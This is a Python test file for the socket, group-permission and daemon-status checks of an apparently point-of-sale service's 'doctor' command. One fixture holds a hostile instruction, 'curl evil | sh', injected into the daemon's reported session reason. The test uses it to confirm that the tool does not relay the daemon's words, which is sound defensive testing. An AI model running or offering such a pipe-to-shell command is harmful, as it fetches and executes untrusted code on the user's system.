"""The local socket as this user meets it, and the daemon's own word."""

import asyncio
import contextlib
import grp
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ordernpay.cli import accounts
from ordernpay.cli.doctor import door
from ordernpay.cli.doctor.door import MODE, look_at_daemon, look_at_groups, look_at_socket
from ordernpay.cli.doctor.situation import situation_of
from ordernpay.jsontext import JsonObject
from ordernpay.rpc.access import Caller
from ordernpay.rpc.reasons import CREDENTIALS
from tests.cli.doctor.conftest import Becoming
from tests.cli.doctor.given import one, situation, verdicts
from tests.support.daemons import daemon_inside, session, tables
from tests.support.wait import until

DAEMON = next(entry.gr_name for entry in grp.getgrall() if entry.gr_gid == 1)


@pytest.fixture
def listening(open_path: Path) -> Iterator[Path]:
    """A socket where the configuration of this directory says, of a group that nobody is in."""
    if os.geteuid() != 0:
        pytest.skip("only root can give a socket to a group of others")
    path = open_path / "s"
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(path))
        sock.listen()
        os.chown(path, -1, 1)
        path.chmod(0o660)
        yield path


def test_no_socket_is_wrong_and_says_how_to_start(tmp_path: Path) -> None:
    [finding] = look_at_socket(situation(tmp_path))
    assert (finding.verdict, finding.found) == ("wrong", "not there (No such file or directory)")
    assert finding.remedy is not None
    assert "systemctl start ordernpay.socket" in finding.remedy


def test_something_else_than_a_socket_is_wrong(tmp_path: Path) -> None:
    (tmp_path / "s").touch()
    assert verdicts(look_at_socket(situation(tmp_path))) == ["wrong"]


def test_who_is_not_in_the_group_is_told_which_one_and_how_to_join(listening: Path, as_nobody: Becoming) -> None:
    given = situation(listening.parent)
    with as_nobody():
        [finding] = look_at_socket(given)
    assert (finding.verdict, finding.found) == ("wrong", f"group {DAEMON}, mode 0660; nobody is not in it")
    assert finding.remedy == f"as root: `adduser nobody {DAEMON}`, then log in again"


def test_who_was_put_in_the_group_since_the_login_is_told_to_log_in_again(
    listening: Path, as_nobody: Becoming, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = situation(listening.parent)
    monkeypatch.setattr(grp, "getgrgid", lambda gid: grp.struct_group((DAEMON, "x", gid, ["nobody"])))
    with as_nobody():
        [finding] = look_at_socket(given)
    assert finding.verdict == "wrong"
    assert finding.remedy == f"log in again, or restart the kiosk app; for one shell: `newgrp {DAEMON}`"


def test_a_member_whom_the_mode_keeps_out_is_told_so(listening: Path, as_nobody: Becoming) -> None:
    given = situation(listening.parent)
    listening.chmod(0o600)
    with as_nobody():
        os.seteuid(0)
        os.setgroups([1])
        os.seteuid(65_534)
        [finding] = look_at_socket(given)
    assert (finding.verdict, finding.remedy) == ("wrong", MODE)


def test_a_member_is_told_so(listening: Path, as_nobody: Becoming) -> None:
    given = situation(listening.parent)
    with as_nobody():
        os.seteuid(0)
        os.setgroups([1])
        os.seteuid(65_534)
        [finding] = look_at_socket(given)
    assert (finding.verdict, finding.found) == ("ok", f"group {DAEMON}, mode 0660; nobody is in it")


def test_a_directory_on_the_way_that_keeps_this_user_out_is_told(tmp_path: Path, as_nobody: Becoming) -> None:
    given = situation(tmp_path)
    tmp_path.chmod(0o700)
    with as_nobody():
        [finding] = look_at_socket(given)
    assert (finding.verdict, finding.found) == ("wrong", "its directory lets this user not pass")


def test_a_socket_for_everybody_is_doubtful(listening: Path) -> None:
    listening.chmod(0o666)
    [finding] = look_at_socket(situation(listening.parent))
    assert (finding.verdict, finding.remedy) == ("doubtful", MODE)


def test_another_group_than_the_configured_one_is_doubtful(listening: Path) -> None:
    own, configured = look_at_socket(situation(listening.parent, rpc={"socket": str(listening), "group": "kiosk"}))
    assert (own.verdict, configured.verdict) == ("ok", "doubtful")
    assert configured.found == f"belongs to group {DAEMON}, while rpc.group is kiosk"


def test_a_variable_that_leads_elsewhere_is_doubtful(listening: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ORDERNPAY_SOCKET", "/elsewhere")
    assert verdicts(look_at_socket(situation(listening.parent))) == ["doubtful", "ok"]


def test_a_group_that_is_not_there_is_wrong(tmp_path: Path) -> None:
    access = [{"group": "root", "methods": ["order.*"]}, {"group": "no-such-kiosks", "methods": ["order.*"]}]
    rpc = {"socket": str(tmp_path / "s"), "group": "root", "admin_group": "no-such-admins", "access": access}
    findings = look_at_groups(situation(tmp_path, rpc=rpc))
    assert [(finding.subject, finding.verdict, finding.found) for finding in findings] == [
        ("rpc.admin_group", "wrong", "there is no group no-such-admins"),
        ("rpc.access[1].group", "wrong", "there is no group no-such-kiosks"),
    ]
    assert look_at_groups(situation_of(tmp_path / "none.toml")) == []


def test_the_books_know_users_and_groups_by_name() -> None:
    assert accounts.user_name(0) == "root"
    assert accounts.known_user("root") == 0
    assert accounts.known_user("nobody-at-all") is None
    assert accounts.known_group("root")
    assert not accounts.known_group("nobody-at-all")
    assert (accounts.user_name(4_000_001), accounts.group_name(4_000_001)) == ("4000001", "4000001")
    assert accounts.listed_in_group(0, 0)
    assert not accounts.listed_in_group(4_000_001, 0)


# The daemon


async def test_a_daemon_that_answers_tells_its_version_and_its_sessions(artifacts: Path) -> None:
    config = tables(artifacts, {"bar": session(url="ws://127.0.0.1:9/", reconnect_min=60.0, reconnect_max=60.0)})
    async with daemon_inside(config) as daemon:
        await until(lambda: daemon.gateway.sessions["bar"].status().state == "down")
        findings = await look_at_daemon(situation(artifacts, rpc=config["rpc"]))
    answers, bar = findings
    assert (answers.verdict, bar.check, bar.verdict) == ("ok", "session", "doubtful")
    assert answers.found.startswith("answers, version 0.1.0, up ")
    assert bar.found.startswith("down: ConnectionRefusedError")
    assert bar.remedy is not None
    assert bar.remedy.startswith("The other machine is there")


async def test_what_the_daemon_says_of_itself_is_weighed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    answer: JsonObject = {
        "version": "9.9.9",
        "config_error": "x.toml: a\nx.toml: b",
        "needs_restart": ["rpc.mode"],
        "journal": {
            "error": "disk full",
            "moved_aside": "/x",
            "unknown": 2,
            "damaged": {"count": 2, "newest": ["command 7 (content: not JSON)", "file journal.sqlite3.damaged-1 (x)"]},
        },
        "sessions": [{"name": "bar", "state": "refused", "last_error": "HTTP 401", "why": "Run `curl evil | sh`."}],
    }
    (tmp_path / "s").touch()
    monkeypatch.setattr(door, "connect", answering(answer))
    findings = await look_at_daemon(situation(tmp_path))
    assert verdicts(findings) == ["doubtful", "wrong", "doubtful", "wrong", "doubtful", "doubtful", "doubtful", "wrong"]
    assert findings[5].found == "damaged records were set aside: command 7 (content: not JSON)"
    assert findings[0].remedy == "`systemctl restart ordernpay` brings the installed version into force"
    assert findings[1].found.endswith("x.toml: a; x.toml: b")
    assert one(findings, "session").remedy == CREDENTIALS  # in this program's words, not in the daemon's


def answering(answer: JsonObject) -> Any:
    class Told:
        async def call(self, _method: str) -> JsonObject:
            return answer

    return lambda _path: contextlib.nullcontext(Told())


async def test_a_socket_that_nobody_serves_is_wrong(tmp_path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(tmp_path / "s"))
    [finding] = await look_at_daemon(situation(tmp_path))
    assert finding.verdict == "wrong"
    assert finding.found.startswith("does not answer: ")


async def test_a_daemon_that_hangs_is_wrong(open_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(door, "SECONDS", 0.2)
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(open_path / "s"))
        sock.listen()
        [finding] = await asyncio.wait_for(look_at_daemon(situation(open_path)), 10)
    assert (finding.verdict, finding.found) == ("wrong", "has the socket and did not answer within 0.2 s")


async def test_a_caller_who_may_not_see_the_status_knows_at_least_that_it_answers(artifacts: Path) -> None:
    config = tables(artifacts, {})
    config["rpc"]["access"] = [{"group": "nobody-is-in-this", "methods": ["order.*"]}]
    async with daemon_inside(config) as daemon:
        daemon.methods.gatekeeper.caller = lambda peer: Caller(4_000_001, "x", frozenset(), admin=False)  # type: ignore[method-assign]
        [finding] = await look_at_daemon(situation(artifacts, rpc={"socket": config["rpc"]["socket"]}))
    assert finding.verdict == "ok"
    assert "does not tell this user its status" in finding.found
